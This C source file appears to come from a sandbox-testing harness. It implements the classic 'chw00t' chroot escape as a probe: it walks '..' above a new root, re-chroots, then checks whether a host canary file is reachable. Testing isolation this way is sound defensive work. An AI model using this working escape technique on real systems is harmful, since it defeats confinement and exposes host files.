/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Escape attempts.  Each one stops at the proof (a canary reached with read-only steps), because
 * under a negative control run as root it succeeds for real.  chroot() changes only this process's
 * root, so the chroot escapes are safe to attempt anywhere.
 */
#include "probe.h"

#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/*
 * chw00t #0, the classic: chroot into a subdirectory while the working directory stays above it,
 * walk `..` past the new root (the kernel only stops `..` at the process's root, which the cwd is
 * no longer under), then chroot(".") there.  The target is the empty directory DIR/empty the
 * harness made, so nothing is created.  Then try to reach the host file canary.
 */
int
sp_verb_escape_chroot(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file");
	if (dir == NULL || canary == NULL)
		return sp_cannot(v, "needs the dir= option and the file canary");
	char target[4096];
	snprintf(target, sizeof target, "%s/empty", dir);
	if (chdir(dir) != 0)
		return sp_cannot(v, "chdir '%s': %s", dir, sp_errname(errno));
	if (chroot(target) != 0) {
		sp_kv(v, "chroot", "%s", sp_errname(errno));
	} else {
		sp_kv(v, "chroot", "ok");
		for (int i = 0; i < 64; i++)
			if (chdir("..") != 0)
				break;
		sp_kv(v, "chroot-dot", "%s", chroot(".") == 0 ? "ok" : sp_errname(errno));
	}
	return sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
}
